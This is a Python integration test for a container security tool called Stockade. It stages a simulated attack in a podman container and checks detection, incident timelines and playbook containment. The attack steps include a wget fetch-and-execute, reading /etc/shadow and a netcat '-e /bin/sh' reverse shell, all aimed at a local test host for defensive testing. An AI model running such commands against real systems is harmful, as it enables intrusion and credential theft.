"""Assume breach, end to end, as a user runs it: `stockade up` with a response playbook, a podman
container on the bridge network attacked step by step (a shell, a tool downloaded from a server on
the host and run, the password database read, a reverse shell to the host), then:

* the four steps are one incident, its timeline in the order they happened, then the playbook's
  actions: the container isolated (the connection it held to the host is reset, a new one is
  refused), its evidence captured (a bundle whose manifest verifies), and frozen (no CPU progress
  from the busy loop it runs);
* the container stays there to be examined; `stockade respond thaw` lets it run again (still
  isolated) and `stockade respond unisolate` connects it again.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from containers import PodmanContainer
from helpers import busy_cores, need, wait_until
from stockade.model import apipaths

pytestmark = [pytest.mark.root, pytest.mark.containers, pytest.mark.ebpf, pytest.mark.slow]

PLAYBOOK = """\
apiVersion: stockade.dev/v1alpha1
kind: ResponsePlaybook
metadata:
  name: contain-reverse-shell
spec:
  trigger:
    rules: ["Reverse Shell Command in Container", "Netcat Remote Code Execution in Container"]
    incident_score: 50
  actions:
    - action: notify
    - action: isolate
    - action: capture
      memory: [all]
    - action: freeze
"""

ATTACK = [
    # (step, command in the container, the rule it must raise: Stockade's pack, or Falco's stable
    # rule for it when /etc/falco holds those, loaded first)
    (
        "shell",
        ["sh", "-i", "-c", "id; uname -a"],
        ("Shell Spawned in Container", "Terminal shell in container"),
    ),
    (
        "tool download",
        [
            "sh",
            "-c",
            "wget -q -O /tmp/tool http://{gw}:{http}/tool && chmod +x /tmp/tool && /tmp/tool echo ran",
        ],
        ("Binary Not in Image Executed in Container", "Drop and execute new binary in container"),
    ),
    (
        "credential read",
        ["cat", "/etc/shadow"],
        ("Password Database Read in Container", "Read sensitive file untrusted"),
    ),
    (
        "outbound connection",
        ["nc", "-w", "2", "{gw}", "{closed}", "-e", "/bin/sh"],
        ("Reverse Shell Command in Container", "Netcat Remote Code Execution in Container"),
    ),
]


class _Tool(BaseHTTPRequestHandler):
    body = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *_: Any) -> None:
        pass


def _listener(ip: str) -> socket.socket:
    s = socket.socket()
    s.bind((ip, 0))
    s.listen(16)
    s.settimeout(15)
    return s


def _port(s: socket.socket) -> int:
    return int(s.getsockname()[1])


def _cpu_usage_us(c: PodmanContainer) -> int:
    """The container's CPU time so far (cgroup2 cpu.stat, else the v1 cpuacct)."""
    from stockade.enforce.cgroup2 import cgroup_dir_of

    stat = Path(cgroup_dir_of(c.pid)) / "cpu.stat"
    if stat.exists():
        for line in stat.read_text().splitlines():
            if line.startswith("usage_usec "):
                return int(line.split()[1])
    for line in Path(f"/proc/{c.pid}/cgroup").read_text().splitlines():
        _, ctrls, path = line.split(":", 2)
        if "cpuacct" in ctrls.split(","):
            mount = next(
                p for p in ("/sys/fs/cgroup/cpu,cpuacct", "/sys/fs/cgroup/cpuacct") if os.path.isdir(p)
            )
            return int((Path(mount + path) / "cpuacct.usage").read_text()) // 1000
    raise AssertionError("no CPU accounting for the container")


def _progress_us(c: PodmanContainer, over_s: float = 1.0) -> int:
    a = _cpu_usage_us(c)
    time.sleep(over_s)
    return _cpu_usage_us(c) - a


def _cut(conn: socket.socket, within_s: float = 10.0) -> bool:
    """Whether the connection ends (reset, or closed by the peer) within `within_s`: the ticks
    already on their way are read first."""
    end = time.monotonic() + within_s
    conn.settimeout(1.0)
    while time.monotonic() < end:
        try:
            if not conn.recv(4096):
                return True
        except (ConnectionResetError, BrokenPipeError):
            return True
        except TimeoutError:
            continue  # silent: the drops hold it; a reset or close still has to come
    return False


def _explain(up: Any, c: PodmanContainer) -> str:
    """The container's incidents with their timelines, the response status, the log: for failures."""
    r = up.cli("incidents", "list", "--output", "json")
    out: list[str] = []
    for i in _json_lines(r.stdout):
        if c.id[:12] in i["containers"]:
            out.append(up.cli("incidents", "show", i["id"]).stdout)
    status = json.loads(up.cli("status", "-o", "json").stdout or "{}")
    runtime = status.get("status", {}).get("runtime", {})
    out.append(json.dumps({k: runtime.get(k) for k in ("incidents", "response", "audit")}, indent=1))
    log: str = up.log()
    return "\n".join(out) + log[-2000:]


def _json_lines(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def _start(stockade_up: Any, tmp_path: Path) -> Any:
    pb = tmp_path / "playbooks"
    pb.mkdir()
    (pb / "contain.yaml").write_text(PLAYBOOK)
    up = stockade_up(
        {
            "response": {"playbooks": [str(pb)]},
            "incidents": {"window_s": 600},
            "zero_trust": {"enabled": False},
            "resources": {"enabled": False},
            "sinks": [{"type": "file", "path": str(tmp_path / "alerts.jsonl")}],
        }
    )
    up.start()
    return up


def _hold(c: PodmanContainer, gw: str, held: socket.socket) -> socket.socket:
    """A connection the container holds open to the host, sending a tick every 0.2 s."""
    ticks = ["sh", "-c", f"while :; do echo tick; sleep 0.2; done | nc {gw} {_port(held)}"]
    assert c.exec(ticks, detach=True).returncode == 0
    conn, _ = held.accept()
    conn.settimeout(5)
    assert conn.recv(5) == b"tick\n"
    return conn


def _contained_incident(up: Any, c: PodmanContainer) -> dict[str, Any]:
    """The one incident of the container, once the playbook contained it and froze the container
    (waited for through the API; the CLI lists and shows it once it is there)."""

    def contained(items: list[dict[str, Any]]) -> dict[str, Any] | None:
        mine = [i for i in items if c.id[:12] in i["containers"]]
        return mine[0] if len(mine) == 1 and mine[0]["status"] == "contained" else None

    def incident() -> dict[str, Any] | None:
        return contained(up.get(apipaths.INCIDENTS, {"limit": 100})["items"])

    assert wait_until(lambda: incident() is not None, timeout=90, step=0.3), _explain(up, c)
    r = up.cli("incidents", "list", "--output", "json")
    assert r.returncode == 0, r.stderr
    inc = contained(_json_lines(r.stdout))
    assert inc is not None, r.stdout

    def frozen() -> bool:
        shown = up.get(apipaths.INCIDENT, incident_id=inc["id"])
        return any(e["data"].get("action") == "freeze" for e in shown["timeline"] if e["kind"] == "action")

    assert wait_until(frozen, timeout=90, step=0.3), _explain(up, c)
    shown: dict[str, Any] = json.loads(up.cli("incidents", "show", inc["id"], "--output", "json").stdout)
    return shown


def _check_timeline(up: Any, shown: dict[str, Any]) -> None:
    """The attack's steps in the order they happened (other alerts may come between), then the
    playbook's actions in its order, each one done."""
    timeline = shown["timeline"]
    rules = [e["data"]["rule"] for e in timeline if e["kind"] == "alert"]
    at = [next((i for i, r in enumerate(rules) if r in names), -1) for _s, _c, names in ATTACK]
    assert -1 not in at and at == sorted(at), rules
    stored = {a["stockade"]["id"] for a in up.api("/alerts", limit=1000)["items"]}
    assert set(shown["alerts"]) <= stored and len(shown["alerts"]) == shown["alert_count"]
    done = [
        (e["data"].get("action"), e["data"].get("ok"))
        for e in timeline
        if e["kind"] in ("action", "evidence")
    ]
    steps = [a for a, _ in done if a in ("notify", "isolate", "capture", "freeze")]
    assert steps == ["notify", "isolate", "capture", "freeze"], done
    assert all(ok in (True, None) for _, ok in done), done
    first_action = next(i for i, e in enumerate(timeline) if e["kind"] in ("action", "evidence"))
    assert timeline[first_action - 1]["kind"] in ("alert", "state")


def test_an_attack_becomes_one_incident_and_the_playbook_contains_it(
    stockade_up: Any, podman_container: Any, tmp_path: Path
) -> None:
    need(shutil.which("nft"), "needs nft (scripts/install.sh installs nftables)")
    up = _start(stockade_up, tmp_path)
    c: PodmanContainer = podman_container(("sh", "-c", "while :; do :; done"), network="bridge")
    gw = c.inspect()["NetworkSettings"]["Gateway"]
    busybox = next(p for p in ("/bin/busybox", "/usr/bin/busybox") if os.path.exists(p))
    _Tool.body = Path(busybox).read_bytes()
    http = ThreadingHTTPServer((gw, 0), _Tool)
    threading.Thread(target=http.serve_forever, daemon=True).start()
    held, closed = _listener(gw), _listener(gw)
    closed_port = _port(closed)
    closed.close()
    conns: list[socket.socket] = []
    try:
        conn = _hold(c, gw, held)
        conns.append(conn)
        shadow = tmp_path / "shadow"
        shadow.write_text("root:$6$x$y:19000:0:99999:7:::\n")
        c.cp(str(shadow), "/etc/shadow")  # (no exec in the container: no alert of its own)
        fmt = {"gw": gw, "http": str(http.server_address[1]), "closed": str(closed_port)}
        with busy_cores():
            for _step, cmd, _rule in ATTACK:
                c.exec([part.format(**fmt) for part in cmd], timeout=30)
                time.sleep(0.3)  # the steps in order, as an intruder types them
            shown = _contained_incident(up, c)
        _check_timeline(up, shown)

        # isolated: the held connection was cut (reset or closed: the ticks stopped); frozen: no
        # CPU progress from its busy loop
        assert _cut(conn), "the connection the container held still carries its ticks"
        assert _progress_us(c) < 5_000, "the frozen container used CPU"
        # the evidence bundle verifies, and the container is still there to examine
        bundle = next(e["data"]["path"] for e in shown["timeline"] if e["kind"] == "evidence")
        v = up.cli("evidence", "verify", bundle)
        assert v.returncode == 0, v.stdout + v.stderr
        assert c.inspect()["State"]["Running"] is True

        # thaw: it runs again, still cut off
        r = up.cli("respond", "thaw", c.name)
        assert r.returncode == 0, r.stderr
        assert _progress_us(c) > 100_000
        new = c.exec(["nc", "-w", "2", gw, str(_port(held)), "-e", "/bin/true"])
        assert new.returncode != 0, new
        # unisolate: connected again, as before
        r = up.cli("respond", "unisolate", c.name)
        assert r.returncode == 0, r.stderr
        conns.append(_hold(c, gw, held))
        # every action is on the timeline
        final = json.loads(up.cli("incidents", "show", shown["id"], "--output", "json").stdout)
        acts = [e["data"].get("action") for e in final["timeline"] if e["kind"] == "action"]
        assert acts[-2:] == ["thaw", "unisolate"], acts
        status = up.cli("status").stdout
        assert "incidents: 1 active" in status and "response: 1 playbooks" in status, status
        assert "audit log: " in status and "FAILED" not in status, status
        audit = up.cli("audit", "verify")
        assert audit.returncode == 0 and audit.stdout.startswith("audit log intact"), (
            audit.stdout + audit.stderr
        )
    finally:
        for s in (held, *conns):
            s.close()
        http.shutdown()
        http.server_close()
        up.cli("respond", "thaw", c.id)
